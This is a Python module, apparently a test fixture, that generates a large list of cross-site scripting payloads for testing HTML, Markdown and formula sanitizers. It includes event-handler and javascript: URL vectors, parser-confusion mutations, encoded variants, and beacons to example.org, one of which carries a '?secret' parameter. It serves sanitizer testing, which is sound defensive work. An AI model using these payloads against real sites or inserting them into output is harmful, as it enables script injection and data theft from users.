"""Texts that would run a script, load something or take the page over, wherever they were put in as markup.

Each sets `window.pwned` when it runs. They are put together from ways to run, ways to write and places to
stand; the odd ones out are by hand. Sources: the tests of DOMPurify, the OWASP and PortSwigger lists.
"""

from __future__ import annotations

from collections.abc import Iterator

RUN = "window.pwned=1"

_WAYS = (
    "<script>{run}</script>",
    "<script src=data:text/javascript,{run}></script>",
    "<img src=x onerror={run}>",
    "<image src=x onerror={run}>",
    "<svg onload={run}>",
    "<svg><script>{run}</script></svg>",
    "<svg><animate onbegin={run} attributeName=x dur=1s>",
    "<svg><set attributeName=href to=javascript:{run} /><a><text>x</text></a></svg>",
    "<svg><image href=x onerror={run}></svg>",
    "<svg><foreignObject><img src=x onerror={run}></foreignObject></svg>",
    "<svg><style><img src=x onerror={run}></style></svg>",
    "<math><mtext><img src=x onerror={run}></mtext></math>",
    "<video src=x onerror={run}></video>",
    "<audio src=x onerror={run}></audio>",
    "<video><source onerror={run}></video>",
    "<input autofocus onfocus={run}>",
    "<select autofocus onfocus={run}></select>",
    "<textarea autofocus onfocus={run}></textarea>",
    "<button autofocus onfocus={run}>x</button>",
    "<div tabindex=1 autofocus onfocus={run}>x</div>",
    "<div style=animation-name:x onanimationstart={run}>x</div>",
    "<div onpointerrawupdate={run} onpointerenter={run}>x</div>",
    "<details open ontoggle={run}>x</details>",
    "<body onload={run}>",
    "<body onpageshow={run}>",
    "<marquee onstart={run}>x</marquee>",
    "<style onload={run}></style>",
    "<link rel=stylesheet href=data:text/css, onload={run}>",
    "<iframe onload={run}></iframe>",
    '<iframe srcdoc="<script>parent.{run}</script>"></iframe>',
    "<iframe src=javascript:parent.{run}></iframe>",
    "<object data=javascript:{run}></object>",
    "<object data=x onerror={run}></object>",
    "<embed src=javascript:{run}>",
    "<form action=javascript:{run}><input type=submit autofocus></form>",
    "<form><button formaction=javascript:{run}>x</button></form>",
    "<isindex type=image src=1 onerror={run}>",
    "<xss contenteditable autofocus onfocus={run}>x</xss>",
    "<meta http-equiv=refresh content=0;url=javascript:{run}>",
    "<base href=javascript:{run}//>",
)

_WRITINGS = (
    lambda way: way,
    lambda way: way.replace(" on", "/on").replace(" src", "/src"),
    lambda way: way.replace(" ", "\n\t\f"),
    lambda way: "".join(c.upper() if n % 2 else c for n, c in enumerate(way)).replace(RUN.upper(), RUN),
    lambda way: f'"><!--{way}-->{way}',
    lambda way: f"</code></pre></script></style></title></textarea>{way}",
)  # fmt: skip
"""How a tag can be written: as it is, without spaces, with others, in odd case, breaking out of something."""

_ADDRESSES = (
    f"javascript:{RUN}",
    f"JaVaScRiPt:{RUN}",
    f"javascript\t:{RUN}",
    f"java\tscript:{RUN}",
    f"\x01javascript:{RUN}",
    f"&#106;avascript:{RUN}",
    f"&#x6A&#x61;vascript&colon;{RUN}",
    f"javascript&Tab;:{RUN}",
    f"javascript://%0a{RUN}",
    f"data:text/html,<script>{RUN}</script>",
    "data:text/html;base64,PHNjcmlwdD5wYXJlbnQucHduZWQ9MTwvc2NyaXB0Pg==",
    f"data:image/svg+xml,<svg onload={RUN}>",
    f"vbscript:{RUN}",
    f"blob:javascript:{RUN}",
    f"view-source:javascript:{RUN}",
)

_PLACES = (
    "[click]({})",
    "[click](<{}>)",
    "![picture]({})",
    "[click][x]\n\n[x]: {}",
    "<{}>",
    "<a href='{}'>click</a>",
    "$\\href{{{}}}{{x}}$",
)

_BY_HAND = (
    # What one parser makes of it, another does not.
    f"<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror={RUN}&gt;'>",
    f"<form><math><mtext></form><form><mglyph><style></math><img src onerror={RUN}>",
    f'<svg></p><style><a id="</style><img src=1 onerror={RUN}>">',
    f"<noscript><p title='</noscript><img src=x onerror={RUN}>'>",
    f"<template><script>{RUN}</script></template>",
    f"<select><template><img src=x onerror={RUN}></template></select>",
    f"<select><iframe></select><img src=x onerror={RUN}>",
    f"<xmp><p title='</xmp><img src=x onerror={RUN}>'>",
    f"<noembed><img title='</noembed><img src=x onerror={RUN}>'>",
    f"<title><a title='</title><img src=x onerror={RUN}>'>",
    f"<textarea><a title='</textarea><img src=x onerror={RUN}>'>",
    f"<plaintext><img src=x onerror={RUN}>",
    f"<![CDATA[<img src=x onerror={RUN}>]]>",
    f"<!--><img src=x onerror={RUN}>-->",
    f"<!-- --!><img src=x onerror={RUN}>",
    f"<? <img src=x onerror={RUN}> ?>",
    f"<scr<script>ipt>{RUN}</scr</script>ipt>",
    f"<<script>{RUN}//<</script>",
    f"\x00<script\x00>{RUN}</script>",
    f"<img src=`x` onerror=`{RUN}`>",
    f"<img src='x' 'onerror={RUN}'\"onerror={RUN}>",
    f"<a href=x\x0bonmouseover={RUN}>x</a>",
    f"<img\u2028src=x\u2028onerror={RUN}>",
    f"\ufeff<img src=x onerror={RUN}>",
    f"+ADw-script+AD4-{RUN}+ADw-/script+AD4-",
    f"&lt;img src=x onerror={RUN}&gt;",
    f"&amp;lt;img src=x onerror={RUN}&amp;gt;",
    f"%3Cimg%20src%3Dx%20onerror%3D{RUN}%3E",
    f"\\u003cimg src=x onerror={RUN}\\u003e",
    f"＜img src=x onerror={RUN}＞",
    # Out of a script, an attribute, a template, a style.
    f"</script><script>{RUN}</script>",
    f"'-({RUN})-'",
    f'";{RUN};//',
    f"`+({RUN})+`",
    f"${{{RUN}}}",
    f"{{{{constructor.constructor('{RUN}')()}}}}",
    f"<%= {RUN} %>",
    f"{{@html '<img src=x onerror={RUN}>'}}",
    f"');{RUN};('",
    f"\u2028{RUN}\u2028",
    f"</style><img src=x onerror={RUN}>",
    f"x:expression({RUN})",
    f"url(javascript:{RUN})",
    f'x" onmouseover="{RUN}" y="',
    f"x' onfocus='{RUN}' autofocus tabindex='1",
    # What loads, covers, or acts as the page's own.
    "<style>@import 'https://example.org/x.css'; *{background:url(https://example.org/y)}</style>",
    "<link rel=stylesheet href=https://example.org/x.css>",
    "<meta http-equiv=refresh content='0;url=https://example.org'>",
    "<base href=https://example.org/>",
    "![x](https://example.org/beacon.png?secret)",
    "[click](file:///etc/passwd)",
    "<a href='https://example.org' target=_self ping=https://example.org/p>x</a>",
    "<div style='position:fixed;inset:0;background:red'>cover</div>",
    "<button data-act='regenerate'>x</button>",
    # Markdown's own seams.
    f'[click](https://example.org "\\"onmouseover={RUN} x=\\"")',
    f'![x](x"onerror="{RUN})',
    f"![{RUN}](x 'x' onerror='{RUN}')",
    f'```"><img src=x onerror={RUN}>\ncode\n```',
    f"```html\n<script>{RUN}</script>\n```",
    f"```python\n</code></pre><script>{RUN}</script>\n```",
    f"~~~<img src=x onerror={RUN}>\nx\n~~~",
    f"`<img src=x onerror={RUN}>`",
    f"| <img src=x onerror={RUN}> |\n|---|\n| <svg onload={RUN}> |",
    f"> <script>{RUN}</script>",
    f"- <img src=x onerror={RUN}>",
    f"[click](java\nscript:{RUN})",
    f"&lt;script&gt;{RUN}&lt;/script&gt;",
    f"<math><mtext><table><mglyph><style><img src=x onerror={RUN}>",
    f"# <img src=x onerror={RUN}>",
    f"**<img src=x onerror={RUN}>**",
    f"[<img src=x onerror={RUN}>](https://example.org)",
    f"<details><summary><img src=x onerror={RUN}></summary></details>",
    f"line<br onclick={RUN}>line",
    f"[^1]\n\n[^1]: <img src=x onerror={RUN}>",
    # Formulas.
    f"$\\url{{javascript:{RUN}}}$",
    "$\\includegraphics{https://example.org/x.png}$",
    "$\\htmlStyle{position:fixed;inset:0}{x}$",
    "$\\htmlData{act=regenerate}{x}$",
    "$\\htmlClass{wc-action}{x}$",
    f"$\\htmlId{{x onclick={RUN}}}{{x}}$",
    f"$\\text{{<img src=x onerror={RUN}>}}$",
    f"$</span><img src=x onerror={RUN}>$",
    f"$\\unicode{{<img src=x onerror={RUN}>}}$",
    f"$$\\begin{{array}}{{<img src=x onerror={RUN}>}}x\\end{{array}}$$",
    f"\\(\\def\\x{{<img src=x onerror={RUN}>}}\\x\\)",
)


def _all() -> Iterator[str]:
    for way in _WAYS:
        for writing in _WRITINGS:
            yield writing(way.format(run=RUN))
    for address in _ADDRESSES:
        for place in _PLACES:
            yield place.format(address)
    yield from _BY_HAND


PAYLOADS: tuple[str, ...] = tuple(dict.fromkeys(_all()))
